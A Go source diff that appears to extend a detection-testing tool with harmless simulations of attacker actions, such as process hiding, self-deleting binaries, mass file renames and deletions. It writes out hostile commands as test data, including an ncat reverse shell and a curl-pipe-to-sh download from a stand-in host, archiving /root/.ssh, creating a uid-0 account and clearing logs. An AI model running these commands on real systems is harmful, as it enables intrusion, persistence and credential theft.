@@ -1,8 +1,15 @@
 package simulate
 
 import (
+	"errors"
+	"fmt"
+	"os"
+	"os/exec"
 	"path/filepath"
 	"slices"
+	"strconv"
+
+	"golang.org/x/sys/unix"
 )
 
 // inPrivateRoot makes a simulation of one step in a private root on the host: see root.
@@ -55,6 +62,21 @@ var fileSimulations = []Simulation{
 	inPrivateRoot("kernel_hardening_off", "Opens /proc/sys/kernel/randomize_va_space for writing, and writes nothing.",
 		root{}, "open-for-writing", "/proc/sys/kernel/randomize_va_space"),
 
+	writes("log_cleared", "/var/log/auth.log"),
+	writes("shell_history_cleared", "/root/.bash_history"),
+	inPrivateRoot("setuid_bit_set", "Sets the set-user-id bit of a file of its own in a private root, which is mounted nosuid.",
+		root{Files: map[string]string{"/tmp/simulation": ""}}, "set-user-id", "/tmp/simulation"),
+	inPrivateRoot("self_deletion", "Starts a program in a private root that removes itself.", root{}, "self-removal", "/tmp/simulation"),
+	inPrivateRoot("process_hidden_by_mount", "Mounts an empty file system over its own directory in /proc, in a mount namespace of its own.", root{}, "hide-process"),
+	inPrivateRoot("executable_written_to_hidden_path", "Writes a program that does nothing to a hidden directory in a private root.",
+		root{Files: map[string]string{"/tmp/.simulation/": ""}}, "write-program", "/tmp/.simulation/program"),
+	inPrivateRoot("web_shell_write", "Writes, from this binary under the name /usr/sbin/nginx, a file that ends in .php in a private root.",
+		root{Links: []string{"/usr/sbin/nginx"}, Files: map[string]string{"/var/www/": ""}}, "as", "/usr/sbin/nginx", "write-file", "/var/www/simulation.php"),
+	inPrivateRoot("ransomware_rename", "Renames 60 empty files of its own in a private root.", root{Files: map[string]string{"/srv/": ""}}, "rename-many", "/srv"),
+	inPrivateRoot("mass_deletion", "Removes 1,100 empty files of its own in a private root.", root{Files: map[string]string{"/srv/": ""}}, "remove-many", "/srv"),
+
+	starts("sensitive_files_archived", "/usr/bin/tar", "tar", "czf", "/tmp/simulation.tgz", "/root/.ssh"),
+	starts("root_account_created", "/usr/sbin/useradd", "useradd", "-o", "-u", "0", "simulation"),
 	starts("enumeration_tool", "/tmp/linpeas.sh", "linpeas.sh"),
 	starts("reverse_shell_command", "/usr/bin/ncat", "ncat", "203.0.113.1", "4444", "-e", "/bin/sh"),
 	starts("download_and_execute", "/bin/sh", "sh", "-c", "curl -s http://203.0.113.1/simulation | sh"),
@@ -77,4 +99,55 @@ var fileSimulations = []Simulation{
 		root{Programs: []string{"/usr/bin/simulation"}}, "exec-with", "LD_PRELOAD=/tmp/simulation.so", "/usr/bin/simulation", "simulation"),
 	inPrivateRoot("web_shell", "Starts, from this binary under the name /usr/sbin/nginx, a program that is called /bin/sh and does nothing.",
 		root{Links: []string{"/usr/sbin/nginx"}, Programs: []string{"/bin/sh"}}, "as", "/usr/sbin/nginx", "exec", "/bin/sh", "sh"),
+}
+
+func stepWriteProgram(args []string) error { return writeProgram(args[0]) }
+
+func stepSetUserID(args []string) error { return os.Chmod(args[0], 0o755|os.ModeSetuid) }
+
+func stepSelfRemoval(args []string) error {
+	if err := os.WriteFile(args[0], selfRemovingELF(), 0o755); err != nil {
+		return err
+	}
+	if err := exec.Command(args[0]).Run(); err != nil {
+		return err
+	}
+	if _, err := os.Stat(args[0]); err == nil {
+		return errors.New("the program did not remove itself")
+	}
+	return nil
+}
+
+func stepHideProcess([]string) error {
+	path := fmt.Sprintf("/proc/%d", os.Getpid())
+	if err := unix.Mount("tmpfs", path, "tmpfs", 0, "size=4k"); err != nil {
+		return fmt.Errorf("mount: %w", err)
+	}
+	return unix.Unmount(path, unix.MNT_DETACH)
+}
+
+func stepRenameMany(args []string) error {
+	for i := range 60 {
+		path := filepath.Join(args[0], strconv.Itoa(i))
+		if err := os.WriteFile(path, nil, 0o600); err != nil {
+			return err
+		}
+		if err := os.Rename(path, path+".locked"); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+func stepRemoveMany(args []string) error {
+	for i := range 1100 {
+		path := filepath.Join(args[0], strconv.Itoa(i))
+		if err := os.WriteFile(path, nil, 0o600); err != nil {
+			return err
+		}
+		if err := unix.Unlink(path); err != nil {
+			return err
+		}
+	}
+	return nil
 }
